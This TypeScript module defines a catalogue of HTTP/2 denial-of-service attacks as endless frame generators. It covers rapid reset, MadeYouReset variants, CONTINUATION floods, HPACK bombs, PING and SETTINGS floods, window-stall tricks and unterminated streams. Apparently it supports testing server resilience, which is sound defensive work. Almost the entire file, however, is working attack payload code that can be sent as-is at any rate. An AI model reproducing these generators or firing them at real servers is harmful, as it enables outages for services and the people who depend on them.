// What clients of HTTP/2 have done to bring servers down, as endless frames. Each attack is a sequence of batches, made from
// the number of the first frame, so that a sender can write at any rate.

import { frame, indexed, integer, literal, uint32 } from './http2-frames.ts'

export interface Attack {
  readonly name: string
  /** Frames before the endless ones. */
  readonly begins?: Buffer
  /** Frame `i` of the attack, or the few that belong together. */
  frames(i: number): Buffer
  /** Such a connection breaks no rule by itself: its cost is bounded, and it need not end. */
  readonly isBounded?: true
}

export const preface: Buffer = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

const authority = literal(':authority', 'any.test')
/** The head of `GET /`. */
const get = Buffer.concat([indexed(2), indexed(6), indexed(4), authority])
/** The head of `POST /` without a length. */
const post = Buffer.concat([indexed(3), indexed(6), indexed(4), authority])
const [endStream, endHeaders] = [1, 4]
const whole = endStream | endHeaders

/** Identifiers of streams end, so an attack that begins one for each frame starts over before that. */
const stream = (i: number): number => 1 + 2 * (i % 0x3fff_0000)

const headers = (i: number, block: Buffer = get, flags: number = whole): Buffer =>
  frame(1, flags, stream(i), block)

const oneSetting = (id: number, value: number): Buffer =>
  Buffer.concat([Buffer.from([0, id]), uint32(value)])

/** `MadeYouReset`: the client lets the server reset the stream. */
const madeReset = (name: string, provoke: (id: number) => Buffer): Attack => ({
  name: `MadeYouReset by ${name}`,
  frames: (i) => Buffer.concat([headers(i), provoke(stream(i))]),
})

const large = literal('x', 'v'.repeat(4_000), 0x40)

export const attacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    frames: (i) => Buffer.concat([headers(i), frame(3, 0, stream(i), uint32(8))]),
  },
  madeReset('WINDOW_UPDATE of 0', (id) => frame(8, 0, id, uint32(0))),
  madeReset('a window beyond 2^31', (id) => frame(8, 0, id, uint32(0x7fff_ffff))),
  madeReset('PRIORITY of another length', (id) => frame(2, 0, id, Buffer.alloc(4))),
  madeReset('PRIORITY on itself', (id) =>
    frame(2, 0, id, Buffer.concat([uint32(id), Buffer.alloc(1)])),
  ),
  madeReset('HEADERS behind the end', (id) => frame(1, whole, id, get)),
  madeReset('DATA behind the end', (id) => frame(0, 0, id, Buffer.from('x'))),
  {
    name: 'malformed requests',
    frames: (i) => headers(i, Buffer.concat([get, literal('connection', 'close')])),
  },
  {
    name: 'CONTINUATION without end',
    begins: frame(1, 0, 1, get),
    frames: () => frame(9, 0, 1, Buffer.from([0])),
  },
  { name: 'PING', frames: () => frame(6, 0, 0, Buffer.alloc(8)) },
  { name: 'acknowledged PING', frames: () => frame(6, 1, 0, Buffer.alloc(8)) },
  { name: 'SETTINGS', frames: () => frame(4, 0, 0) },
  { name: 'acknowledged SETTINGS', frames: () => frame(4, 1, 0) },
  { name: 'SETTINGS that move the window', frames: (i) => frame(4, 0, 0, oneSetting(4, i % 2)) },
  { name: 'PRIORITY', frames: (i) => frame(2, 0, stream(i), Buffer.alloc(5)) },
  {
    name: 'PRIORITY_UPDATE',
    frames: (i) => frame(16, 0, 0, Buffer.concat([uint32(stream(i)), Buffer.from('u=1')])),
  },
  { name: 'frames of an unknown type', frames: () => frame(99, 0, 0) },
  {
    name: 'GOAWAY',
    begins: headers(0, post, endHeaders),
    frames: () => frame(7, 0, 0, Buffer.alloc(8)),
  },
  {
    name: 'resets of streams that have ended',
    begins: headers(0),
    frames: () => frame(3, 0, 1, uint32(8)),
  },
  {
    name: 'empty DATA',
    begins: headers(0, post, endHeaders),
    frames: () => frame(0, 0, 1),
  },
  {
    name: 'DATA of padding alone',
    begins: headers(0, post, endHeaders),
    frames: () => frame(0, 8, 1, Buffer.from([3, 0, 0, 0])),
  },
  {
    name: 'DATA of one byte',
    begins: headers(0, post, endHeaders),
    frames: () => frame(0, 0, 1, Buffer.from('x')),
  },
  { name: 'WINDOW_UPDATE of 1', frames: () => frame(8, 0, 0, uint32(1)) },
  {
    name: 'WINDOW_UPDATE of 1 for a stream that reads nothing',
    begins: Buffer.concat([frame(4, 0, 0, oneSetting(4, 0)), headers(0)]),
    frames: () => frame(8, 0, 1, uint32(1)),
  },
  {
    name: 'HPACK bombs',
    begins: headers(0, Buffer.concat([get, large])),
    frames: (i) =>
      headers(i + 1, Buffer.concat([get, ...Array.from({ length: 1_000 }, () => indexed(62))])),
  },
  {
    name: 'more fields than are announced',
    frames: (i) =>
      headers(
        i,
        Buffer.concat([get, ...Array.from({ length: 300 }, (_, n) => literal(`x-${n}`, 'v'))]),
      ),
  },
  {
    name: 'new names in each request',
    isBounded: true,
    frames: (i) =>
      headers(
        i,
        Buffer.concat([
          get,
          ...Array.from({ length: 100 }, (_, n) => literal(`x-${i}-${n}`, 'v', 0x40)),
        ]),
      ),
  },
  {
    name: 'an integer without end',
    frames: (i) => headers(i, Buffer.concat([integer(0x80, 7, 127), Buffer.alloc(60, 0xff)])),
  },
  {
    name: 'a window of 0',
    isBounded: true,
    begins: frame(4, 0, 0, oneSetting(4, 0)),
    frames: (i) => headers(i),
  },
  {
    name: 'streams without end',
    frames: (i) => headers(i, post, endHeaders),
  },
]
